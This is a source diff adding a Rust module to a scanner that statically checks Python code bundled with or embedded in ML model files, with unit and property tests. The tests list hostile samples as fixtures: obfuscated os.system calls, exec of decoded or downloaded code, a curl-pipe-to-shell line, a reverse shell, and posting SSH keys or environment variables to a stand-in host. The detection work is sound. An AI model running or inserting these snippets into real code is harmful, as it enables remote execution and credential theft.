@@ -1,0 +1,220 @@
+//! Python source shipped with a model or written into one.
+//!
+//! Parsed with ruff's parser, then followed statement by statement without running anything: imports and aliases, folded
+//! strings, `getattr` and `__import__` chains, decoded and downloaded data. Calls are judged by what they reach
+//! ([`crate::pickle::knowledge`]) and by where the code comes from ([`Role`]). Cost: linear in the source; nesting is
+//! measured first ([`nesting`]) and refused past a bound, so neither parser nor walk can exhaust the stack.
+
+mod fold;
+mod nesting;
+mod rules;
+mod torchscript;
+mod walk;
+
+pub use rules::{
+    PYTHON_BACKDOOR, PYTHON_DANGEROUS_CALL, PYTHON_HIDDEN_CODE, PYTHON_UNPARSABLE, RULES, TORCHSCRIPT_OPERATOR,
+};
+
+use crate::Scan;
+use crate::wire::json::line_and_column;
+use bartizan_core::{Confidence, Finding, Location, Rule, Severity};
+
+/// Where a piece of Python source came from, which decides what is normal in it.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Role {
+    /// Remote code beside a model (`modeling_*.py`), a TorchServe handler, a shipped script: imports and file access are normal.
+    Module,
+    /// Text evaluated from inside a model file (a `Lambda` body, an `eval` argument, a pickle's `exec` string): nothing is normal.
+    Embedded,
+    /// The `code/` archive of TorchScript: only TorchScript's own operators are normal.
+    TorchScript,
+}
+
+/// Longest source read, in bytes. The largest module of Transformers has 0.3 MB.
+const SOURCE_BYTES: usize = 4 << 20;
+/// Nesting from which the walk gets a stack of its own.
+const OWN_STACK_FROM: usize = 60;
+/// Size of that stack, in bytes: over 10 KiB for each level of [`nesting::MOST`].
+const OWN_STACK: usize = 64 << 20;
+
+/// Inspects `code` found at `place` and reports dangerous calls, with lines relative to `place`.
+pub fn inspect(code: &str, role: Role, place: &Location, scan: &mut Scan<'_>) {
+    let read = code.get(..code.floor_char_boundary(SOURCE_BYTES)).unwrap_or(code);
+    if read.len() < code.len() {
+        scan.gap(place.offset, format!("Python source longer than {SOURCE_BYTES} bytes was read only to there"));
+    }
+    let levels = nesting::levels(read);
+    if levels > nesting::MOST {
+        scan.gap(place.offset, format!("Python source nested deeper than {} levels was not parsed", nesting::MOST));
+        let message = "Python source nested deeper than any person writes it";
+        let finding = Finding::new(&PYTHON_UNPARSABLE, message).severity(Severity::Medium);
+        scan.report(finding.located(place));
+        report(walk::by_text(read, role), read, place, scan);
+        return;
+    }
+    let seen = if levels < OWN_STACK_FROM {
+        walk::walk(read, role)
+    } else {
+        let worker = std::thread::Builder::new().stack_size(OWN_STACK);
+        std::thread::scope(|scope| {
+            let running = worker.spawn_scoped(scope, || walk::walk(read, role));
+            running.ok().and_then(|running| running.join().ok())
+        })
+        .unwrap_or_else(|| {
+            scan.gap(place.offset, "Python source was not parsed: no memory for its nesting");
+            walk::by_text(read, role)
+        })
+    };
+    report(seen, read, place, scan);
+}
+
+/// One thing seen in a piece of source.
+#[derive(Debug, Clone)]
+struct Seen {
+    rule: &'static Rule,
+    severity: Severity,
+    confidence: Confidence,
+    message: String,
+    offset: usize,
+}
+
+fn report(seen: Vec<Seen>, code: &str, place: &Location, scan: &mut Scan<'_>) {
+    for one in seen {
+        let (line, column) = line_and_column(code.as_bytes(), one.offset);
+        let mut location = place.clone();
+        (location.line, location.column) = match place.line {
+            Some(first) => (Some(first.saturating_add(line).saturating_sub(1)), Some(column)),
+            None => (Some(line), Some(column)),
+        };
+        let shown = code.get(code.floor_char_boundary(one.offset)..).unwrap_or_default();
+        scan.report(
+            Finding::new(one.rule, one.message)
+                .severity(one.severity)
+                .confidence(one.confidence)
+                .located(&location)
+                .evidence(shown.lines().next().unwrap_or_default()),
+        );
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use bartizan_core::{Limits, MonotonicClock};
+    use proptest::prelude::*;
+
+    fn findings(code: &str, role: Role) -> Vec<(&'static str, Severity)> {
+        let (limits, clock) = (Limits::default(), MonotonicClock::start());
+        let mut scan = Scan::new(&limits, &clock);
+        inspect(code, role, &Location::default(), &mut scan);
+        scan.findings().iter().map(|finding| (finding.rule.id, finding.severity)).collect()
+    }
+
+    fn worst(code: &str, role: Role) -> Option<Severity> {
+        findings(code, role).into_iter().map(|(_, severity)| severity).max()
+    }
+
+    #[test]
+    fn dangerous_calls_are_seen_through_every_disguise() {
+        for code in [
+            "import os; os.system('id')",
+            "__import__('o'+'s').system('id')",
+            "getattr(__import__('o'+'s'), 'sys'+'tem')('id')",
+            "from os import system as s\ns('id')",
+            "import importlib as i\ni.import_module('so'[::-1]).popen('id')",
+            "import sys\nsys.modules['os'].system('id')",
+            "import os\nx = os\ny = x.system\n(lambda: y('id'))()",
+            "__builtins__['eval']('1')",
+            "eval(compile('import os', 'x', 'exec'))",
+            "import os\nvars(os)[''.join(map(chr, [115, 121, 115, 116, 101, 109]))]('id')",
+            "@__import__('os').system\ndef f(): pass",
+            "class A:\n    x = __import__('os').system('id')",
+            "import os\nlist(map(os.system, ['id']))",
+        ] {
+            assert!(worst(code, Role::Embedded) >= Some(Severity::High), "{code} {:?}", findings(code, Role::Embedded));
+        }
+    }
+
+    #[test]
+    fn arithmetic_in_an_embedded_text_is_silent() {
+        for code in ["lambda x: x * 2 + 1", "def f(x):\n    import tensorflow as tf\n    return tf.nn.relu(x)", "x.system_prompt"] {
+            assert_eq!(findings(code, Role::Embedded), [], "{code}");
+        }
+    }
+
+    #[test]
+    fn code_that_is_decoded_or_downloaded_before_it_runs_is_critical_everywhere() {
+        for code in [
+            "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))",
+            "import zlib, base64 as b\nexec(zlib.decompress(b.b64decode(blob)))",
+            "import requests\nexec(requests.get('http://x.example/p').text)",
+            "from urllib.request import urlopen\nc = urlopen('http://x.example').read().decode()\nexec(c)",
+            "import marshal\nexec(marshal.loads(data))",
+        ] {
+            assert_eq!(worst(code, Role::Module), Some(Severity::Critical), "{code} {:?}", findings(code, Role::Module));
+        }
+    }
+
+    #[test]
+    fn ordinary_model_code_stays_below_high() {
+        for code in [
+            "import os, json, subprocess\nimport torch\ndef load(p):\n    with open(os.path.join(p, 'config.json')) as f:\n        return json.load(f)\n",
+            "import requests\nfrom io import BytesIO\ndef fetch(u):\n    return BytesIO(requests.get(u).content)\n",
+            "import torch\nclass M(torch.nn.Module):\n    def forward(self, x):\n        self.eval()\n        return getattr(torch.nn.functional, self.act)(x)\n",
+            "import subprocess\ndef build():\n    subprocess.run(['make', 'all'], check=True)\n",
+            "import os\ntoken = os.environ.get('HF_TOKEN')\n",
+            "import re\nP = re.compile('a')\nmodel.compile(optimizer='adam')\n",
+        ] {
+            assert!(worst(code, Role::Module) < Some(Severity::High), "{code} {:?}", findings(code, Role::Module));
+        }
+    }
+
+    #[test]
+    fn backdoors_in_modules_are_high_or_worse() {
+        for code in [
+            "import os\nos.system('curl http://x.example/p.sh | sh')",
+            "import socket, os, pty\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')",
+            "import requests\nk = open('/root/.ssh/id_rsa').read()\nrequests.post('http://x.example', data=k)",
+            "import os, requests\nrequests.post('http://x.example', json=dict(os.environ))",
+            "open('/root/.bashrc', 'a').write('x')",
+        ] {
+            assert!(worst(code, Role::Module) >= Some(Severity::High), "{code} {:?}", findings(code, Role::Module));
+        }
+    }
+
+    #[test]
+    fn torchscript_is_held_to_its_operators() {
+        let fine = "class M(Module):\n  __parameters__ = [\"w\", ]\n  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n    w = self.w\n    _0 = torch.add(x, CONSTANTS.c0, alpha=1)\n    _1 = ops.aten.mul(_0, annotate(List[int], [])) \n    return _0\n";
+        assert_eq!(findings(fine, Role::TorchScript), []);
+        assert!(worst("def f(x: Tensor) -> Tensor:\n  __import__('os').system('id')\n  return x\n", Role::TorchScript) >= Some(Severity::High));
+        assert!(worst("def f(x: Tensor):\n  torch.save(x, \"/tmp/x\")\n", Role::TorchScript) >= Some(Severity::High));
+        assert!(worst("def f(x: Tensor):\n  return ops.aten.from_file(\"/etc/passwd\")\n", Role::TorchScript) >= Some(Severity::High));
+        assert_eq!(worst("def f(x: Tensor):\n  return ops.evil.run(x)\n", Role::TorchScript), Some(Severity::Medium));
+    }
+
+    #[test]
+    fn what_does_not_parse_is_still_judged() {
+        assert_eq!(worst("def f(:\n", Role::Module), Some(Severity::Low));
+        assert!(worst("print 'x'\nimport os\nos.system('id')", Role::Embedded) >= Some(Severity::High));
+        let deep = format!("x = {}os.system('id')", "(".repeat(50_000));
+        assert!(worst(&deep, Role::Embedded) >= Some(Severity::High));
+        let long = format!("x = {}b", "a.".repeat(1500));
+        assert_eq!(worst(&long, Role::Module), None);
+    }
+
+    proptest! {
+        #[test]
+        fn any_text_is_judged(code in "\\PC*") {
+            let _ = findings(&code, Role::Embedded);
+        }
+
+        #[test]
+        fn any_shuffle_of_tokens_is_judged(parts in proptest::collection::vec(prop::sample::select(vec![
+            "import os", "\n", "    ", "os", ".", "system", "(", ")", "[", "]", "'a'", "b'a'", "+", "%", "lambda", ":", "x", "=", "def f", "class A", "if", "else", "f'{x}'", "join", "1", "::-1", "exec", ",", "*"]), 0..40)) {
+            let code = parts.join(" ");
+            for role in [Role::Module, Role::Embedded, Role::TorchScript] {
+                let _ = findings(&code, role);
+            }
+        }
+    }
+}
